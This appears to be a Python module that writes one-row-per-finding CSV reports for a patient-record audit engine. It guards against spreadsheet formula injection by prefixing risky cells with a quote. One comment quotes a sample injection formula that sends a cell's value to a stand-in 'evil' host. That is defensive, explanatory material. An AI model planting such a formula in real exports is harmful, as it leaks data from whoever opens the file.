"""The CSV report: one row per finding, safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import json
from typing import Any, TextIO

from engine.results import Finding, Report

COLUMNS = (
    "rule", "severity", "outcome", "record_type", "record_key", "patient", "time",
    "source_path", "source_line", "message", "missing", "evidence",
    "rule_patients_affected",  # patients with an unwaived fail of the row's rule, over the audit
    "rejected_nearby",  # rejected records (path:line) in the rule's history window: a data-quality suspect
)

WAIVER_COLUMNS = ("waiver", "waiver_reason", "waiver_approved_by", "waiver_approved_on")
WAIVER_KEYS = ("id", "reason", "approved_by", "approved_on")
ARCHIVE_COLUMNS = ("since_last_audit", "fingerprint")
PERIOD_COLUMNS = ("period_from", "period_until")
_WHY = {"expired": "expired before the run: it covers nothing", "unused": "covered no fail"}

# Spreadsheets (Excel, LibreOffice, Google Sheets) evaluate a cell starting with one of these
# as a formula, and record values reach the cells (keys, patients, messages quoting fields):
# an export row like `=HYPERLINK("http://evil/?"&A1)` would run on the officer's machine.
# csv quoting does not stop it; a leading quote makes the cell literal text (OWASP "CSV
# Injection"; cloud-custodian's c7n/reports/csvout.py does the same since PR #10836).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def neutralise(text: str) -> str:
    """``text`` with a leading ``'`` when a spreadsheet would read it as a formula."""
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


def _cell(value: Any) -> str:
    return "" if value is None else str(value)


def _row(finding: Finding, affected: dict[tuple[str, str], int | None]) -> list[str]:
    cells = [
        finding.rule, finding.severity, finding.outcome, finding.record_type,
        finding.record_key, finding.patient, finding.time,
        finding.source.path, finding.source.line, finding.message,
        ";".join(finding.missing),
        # Sorted, compact keys: one stable cell per finding whatever order the engine used.
        json.dumps(dict(finding.evidence), sort_keys=True, separators=(",", ":"), ensure_ascii=False),
        affected.get((finding.pack, finding.rule)),
        ";".join(finding.suspect),
    ]
    return [neutralise(_cell(c)) for c in cells]


def render(report: Report, out: TextIO) -> None:
    """Write one CSV row per finding (fail or waived), in the report's order; with waivers, then one
    row per waiver that waived nothing (outcome ``waiver expired`` or ``waiver unused``)."""
    # "\n" rather than csv's default "\r\n": files compare byte for byte across platforms
    # when ``out`` is opened with newline="". QUOTE_ALL because with that terminator
    # QUOTE_MINIMAL leaves a bare "\r" in a cell unquoted, and spreadsheets split the row there.
    writer = csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL)
    # with --waivers: which waiver covered a waived row, and who approved it; with --archive: whether
    # an open finding is new since the last archived audit, and its fingerprint there; with --period:
    # the period audited, on every row (a CSV has no header but its column names)
    waivers, archived = report.waivers is not None, report.archived
    period = [_cell(report.period_from), _cell(report.period_until)] if report.period_given else []
    writer.writerow((*COLUMNS, *(WAIVER_COLUMNS if waivers else ()), *(ARCHIVE_COLUMNS if archived else ()),
                     *(PERIOD_COLUMNS if period else ())))
    affected = {(r.pack, r.id): r.patients_affected for r in report.rules}
    for finding in report.findings:
        row = _row(finding, affected)
        if waivers:
            row += [neutralise(_cell((finding.waiver or {}).get(name))) for name in WAIVER_KEYS]
        if archived:
            row += [_cell(finding.since_last_audit), _cell(finding.fingerprint)]
        writer.writerow(row + period)
    # a waiver that waived nothing (expired, or unused) has no finding row: one row of its own, after
    # the findings, its outcome saying so, so the spreadsheet lists every waiver the director gave
    for waiver in report.waivers or ():
        if waiver.status == "applied":
            continue
        cells: dict[str, Any] = {"rule": waiver.rule, "outcome": f"waiver {waiver.status}",
                                 "message": f"waiver {waiver.id} {_WHY[waiver.status]}"}
        row = [neutralise(_cell(cells.get(column))) for column in COLUMNS]
        row += [neutralise(_cell(waiver.id)), "", "", ""]
        if archived:
            row += ["", ""]
        writer.writerow(row + period)
